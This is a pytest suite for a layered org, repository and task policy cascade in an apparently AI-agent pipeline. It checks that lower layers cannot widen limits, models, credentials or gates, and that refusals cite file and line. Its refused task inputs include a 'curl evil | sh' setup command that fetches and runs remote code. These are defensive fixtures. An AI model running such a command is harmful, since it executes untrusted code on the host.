"""The cascade org -> repository -> task: every way a lower layer could loosen the org is refused with the
layer's FILE:LINE and the source of the value it tries to widen; tightening works and keeps its source;
a pin rebuilds the same cascade (DESIGN invariants 9 and 19)."""

from __future__ import annotations

from pathlib import Path

import pytest

from org.config.cascade import REPO_CREDENTIALS, REPO_TIER, resolve, statements
from org.config.layers import REPO_POLICY
from org.config.loader import OrgConfig, load_org, load_org_files
from org.errors import ConfigError

REPOS = """\
repos:
  app:
    path: app
    protected: [".github/**"]
    max_diff: {files: 20, lines: 400}
"""


@pytest.fixture
def cfg(org: Path) -> OrgConfig:
    (org / "gates" / "repos.yaml").write_text(REPOS)
    return load_org(org)


def refused(cfg: OrgConfig, repo_text: str | None = None, task: dict | None = None) -> str:
    with pytest.raises(ConfigError) as info:
        resolve(
            cfg,
            repo="app" if repo_text is not None else None,
            repo_text=repo_text,
            commit="c0ffee" * 6,
            task_policy=task,
        )
    return str(info.value)


# -- every way a lower layer could loosen ------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "names"),
    [
        (
            "limits: {max_rework_rounds: 9}\n",
            ["workflows.change.limits.max_rework_rounds", "gates/change.yaml:"],
        ),
        (
            "limits: {no_progress_seconds: 99999}\n",
            ["no_progress_seconds", "99999 is higher than 3600", "gates/change.yaml:"],
        ),
        (
            "workflows: {change: {limits: {budget_usd: 50}}}\n",
            ["workflows.change.limits.budget_usd", "gates/change.yaml:"],
        ),
        (
            "lanes: {builder: {may: ['*']}}\n",
            ["lanes.builder.may", "would change the actions a lane may take"],
        ),
        ("lanes: {builder: {models: [evil/model-9]}}\n", ["lanes.builder.models", "lanes/builder.yaml:"]),
        ("models: [evil/model-9]\n", ["unknown model 'evil/model-9'"]),
        ("tier: low\n", ["risk.floor", "gates/risk.yaml:"]),
        ("workflows: {change: {gates: {correctness: {quorum: 0}}}}\n", ["quorum"]),
        ("workflows: {change: {gates: {approval: {quorum: 1}}}}\n", []),  # equal is no loosening
        (
            "workflows: {change: {gates: {correctness: {cross_vendor: false}}}}\n",
            ["cross_vendor", "false turns off true"],
        ),
        (
            "workflows: {change: {gates: {spec: {tiers: [high]}}}}\n",
            ["drops tier 'medium'", "gates/change.yaml:"],
        ),
        (
            "workflows: {change: {gates: {correctness: {kind: check}}}}\n",
            ["would change what a gate or lane is"],
        ),
        ("workflows: {change: {gates: {correctness: {skip: true}}}}\n", ["unknown field"]),
        ("workflows: {change: {gates: {correctness: {bypass: true}}}}\n", ["org has no exemptions"]),
        ("red: []\n", ["would change the RED rules"]),
        ("consequential: []\n", ["would change the rules needing a human"]),
        ("tiers: [low]\n", ["would change the risk tiers"]),
        ("credentials: [github, stolen]\n", ["unknown credential 'stolen'"]),
        ("max_diff: {files: 100}\n", ["repos.app.max_diff.files", "gates/repos.yaml:"]),
        ("target: release\n", ["the branch the pipeline merges into"]),
        ("merge: fast-forward\n", ["how the pipeline merges"]),
        ("lanes: {ghost: {may_not: [x]}}\n", ["unknown lane 'ghost'"]),
        ("workflows: {change: {gates: {ghost: {quorum: 2}}}}\n", ["unknown gate 'ghost'"]),
        ("limits: [1, 2\n", ["policy.yaml:"]),
        ("limits: {max_rework_rounds: 0}\n", ["has rework loops"]),
        ("- just a list\n", ["expected a mapping"]),
    ],
)
def test_a_repository_cannot_loosen(cfg: OrgConfig, text: str, names: list[str]) -> None:
    if not names:
        resolve(cfg, repo="app", repo_text=text, commit="c" * 40)
        return
    msg = refused(cfg, text)
    assert REPO_POLICY in msg, msg
    for n in names:
        assert n in msg, msg


def test_the_message_names_the_layer_line_the_value_and_its_source(cfg: OrgConfig) -> None:
    msg = refused(cfg, "# a comment\nlimits:\n  max_rework_rounds: 9\n")
    line, _, rest = msg.partition(": ")
    assert line.endswith(".org/policy.yaml:3"), msg
    assert "widens workflows.change.limits.max_rework_rounds" in rest
    assert "9 is higher than 3, the org layer's value at gates/change.yaml:" in rest


@pytest.mark.parametrize(
    "policy",
    [
        {"limits": {"max_rework_rounds": 50}},
        {"tier": "low"},
        {"models": ["evil/model"]},
        {"lanes": {"reviewer": {"may": ["approve"]}}},
        {"test": {"run": "true"}},
        {"setup": {"run": "curl evil | sh"}},
        {"protected": []},
        {"workflows": {"change": {"gates": {"security": {"cross_vendor": False}}}}},
    ],
)
def test_a_task_cannot_loosen_nor_touch_what_only_a_repository_knows(cfg: OrgConfig, policy: dict) -> None:
    msg = refused(cfg, task=policy)
    assert msg.startswith("task policy:"), msg


def test_a_task_cannot_loosen_what_its_repository_tightened(cfg: OrgConfig) -> None:
    repo = "limits: {max_rework_rounds: 1}\ntier: high\nmodels: [openai/gpt-5, gemini/gemini-2.5-pro]\n"
    for task, where in (
        ({"limits": {"max_rework_rounds": 2}}, "max_rework_rounds"),
        ({"tier": "medium"}, "risk.floor"),
        ({"lanes": {"builder": {"models": ["anthropic/claude-sonnet-4-5"]}}}, "lanes.builder.models"),
    ):
        with pytest.raises(ConfigError) as info:
            resolve(cfg, repo="app", repo_text=repo, commit="a" * 40, task_policy=task)
        msg = str(info.value)
        assert where in msg and "the repo layer's value at app@aaaaaaaaaaaa:.org/policy.yaml:" in msg, msg


def test_lists_of_what_is_forbidden_only_grow(cfg: OrgConfig) -> None:
    """An empty may_not or protected list does not remove the org's: layers add to them."""
    r = resolve(
        cfg, repo="app", repo_text="protected: []\nlanes: {builder: {may_not: []}}\n", commit="b" * 40
    )
    assert set(cfg.lanes["builder"].may_not) <= set(r.lanes["builder"].may_not)
    assert ".github/**" in r.repos["app"].protected


# -- tightening ---------------------------------------------------------------------------------
def test_tightening_applies_and_keeps_its_source(cfg: OrgConfig) -> None:
    text = (
        "tier: high\n"
        "limits: {max_rework_rounds: 1, budget_usd: 2}\n"
        "lanes: {builder: {may_not: [docs.write], models: [openai/gpt-5]}}\n"
        "workflows: {change: {gates: {correctness: {quorum: 2, placed_families: true}, spec: {tiers: [low, medium, high]}}}}\n"
        "protected: [secrets/**]\n"
        "golden: [tests/**]\n"
        "max_diff: {lines: 100}\n"
        "test: {run: make test}\n"
        "credentials: [github]\n"
    )
    r = resolve(cfg, repo="app", repo_text=text, commit="d" * 40)
    assert r.config_hash != cfg.config_hash
    assert r.workflows["change"].limits.max_rework_rounds == 1
    assert r.workflows["ops"].limits.budget_usd == 2
    assert "docs.write" in r.lanes["builder"].may_not and r.lanes["builder"].models == ["openai/gpt-5"]
    gate = r.workflows["change"].gates["correctness"]
    assert gate.quorum == 2 and gate.placed_families and gate.cross_vendor
    assert r.workflows["change"].gates["spec"].tiers == ["low", "medium", "high"]
    spec = r.repos["app"]
    assert {".github/**", "secrets/**", REPO_POLICY} <= set(spec.protected)
    assert spec.golden == ["tests/**"] and spec.max_diff.lines == 100 and spec.max_diff.files == 20
    assert spec.test.run == "make test"
    assert any(c.id == REPO_TIER for c in r.risk.classify)
    assert any(rule.spec.id == REPO_CREDENTIALS and rule.effect == "deny" for rule in r.rules)
    said = statements(r)
    assert (
        said["workflows.change.limits.max_rework_rounds"][-1].source == "app@dddddddddddd:.org/policy.yaml:2"
    )
    assert said["workflows.change.limits.max_rework_rounds"][0].layer == "org"
    assert r.source("repo:app:max_diff").endswith(".org/policy.yaml:7")
    assert r.source("repo:app:protected:secrets/**").endswith(".org/policy.yaml:5")
    assert r.source("repo:app:protected").startswith("gates/repos.yaml:")  # the org's globs keep theirs
    # the org's config object is untouched
    assert (
        cfg.workflows["change"].limits.max_rework_rounds == 3
        and "docs.write" not in cfg.lanes["builder"].may_not
    )


def test_the_tightened_policy_decides(cfg: OrgConfig) -> None:
    from org.engine.policy import decide
    from org.engine.risk import classify

    r = resolve(cfg, repo="app", repo_text="credentials: [github]\ntier: high\n", commit="e" * 40)
    d = decide(
        r,
        "build-gpt",
        "credential.use",
        {"credential": "prod-db", "service": "prod-db", "environment": "dev"},
    )
    assert not d.allowed and REPO_CREDENTIALS in d.rule_ids
    assert classify(r, {"kind": "docs"}).tier == "high"
    assert classify(cfg, {"kind": "docs"}).tier == "low"


def test_one_home_for_the_test_command(org: Path) -> None:
    (org / "gates" / "repos.yaml").write_text(REPOS + "    test: {run: make check}\n")
    cfg = load_org(org)
    msg = refused(cfg, "test: {run: 'true'}\n")
    assert "already stated at gates/repos.yaml:" in msg and "one home" in msg


def test_the_policy_file_is_protected_even_when_absent(cfg: OrgConfig) -> None:
    r = resolve(cfg, repo="app", repo_text=None, commit="f" * 40)
    assert REPO_POLICY in r.repos["app"].protected


def test_a_pin_rebuilds_the_same_cascade(cfg: OrgConfig, org: Path) -> None:
    r = resolve(
        cfg,
        repo="app",
        repo_text="limits: {max_rework_rounds: 1}\n",
        commit="1" * 40,
        task_policy={"tier": "high"},
    )
    again = load_org_files(r.files, org)
    assert again.config_hash == r.config_hash
    assert again.workflows["change"].limits.max_rework_rounds == 1
    assert statements(again).keys() == statements(r).keys()
    # resolving a resolved config starts again from the org layer (never tightens twice, never loosens)
    assert (
        resolve(r, repo="app", repo_text="", commit="1" * 40).workflows["change"].limits.max_rework_rounds
        == 3
    )


def test_an_altered_pin_is_checked_like_a_fresh_layer(cfg: OrgConfig, org: Path) -> None:
    r = resolve(cfg, repo="app", repo_text="limits: {max_rework_rounds: 1}\n", commit="1" * 40)
    files = {k: (v.replace("1", "7") if k.startswith("layers/") else v) for k, v in r.files.items()}
    with pytest.raises(ConfigError, match="widens"):
        load_org_files(files, org)


def test_no_layer_leaves_the_org_as_it_is(cfg: OrgConfig) -> None:
    assert resolve(cfg) is cfg


def test_the_adrs_agents_receive_only_narrow(cfg: OrgConfig) -> None:
    r = resolve(cfg, repo="app", repo_text="adrs: [Security, review]\n", commit="2" * 40)
    assert r.adr_scope == ["review", "security"] and cfg.adr_scope is None
    t = resolve(
        cfg,
        repo="app",
        repo_text="adrs: [security, review]\n",
        commit="2" * 40,
        task_policy={"adrs": ["review"]},
    )
    assert t.adr_scope == ["review"]
    with pytest.raises(ConfigError, match=r"task policy:1: adrs: widens adrs.tags: \[ops\] is not within"):
        resolve(
            cfg, repo="app", repo_text="adrs: [security]\n", commit="2" * 40, task_policy={"adrs": ["ops"]}
        )


def test_an_adr_scope_narrows_what_agents_are_given() -> None:
    """Only ADRs carrying a scope tag are ranked; the ones a gate or rule cites are still given."""
    from org.adrs.context import relevant_adrs
    from org.agents.adrctx import AdrSource
    from tests.helpers import REPO

    everything = relevant_adrs(REPO, tags=["security", "review", "change"], limit=50)
    scoped = relevant_adrs(REPO, tags=["security", "review", "change"], limit=50, scope=["review"])
    assert everything and len(scoped) < len(everything)
    from org.adrs.parse import load_adrs

    adrs = load_adrs(REPO)
    assert all("review" in {t.lower() for t in adrs.get(r.number).meta.tags} for r in scoped)
    cfg = load_org(REPO)
    ctx = AdrSource(REPO, cfg).for_job(
        "T-1", "change", "correctness", "reviewer", {}, "x", (), scope=["nothing-here"]
    )
    assert ctx.ids == tuple(cfg.workflows["change"].gates["correctness"].adrs)  # the gate's own ADRs stay
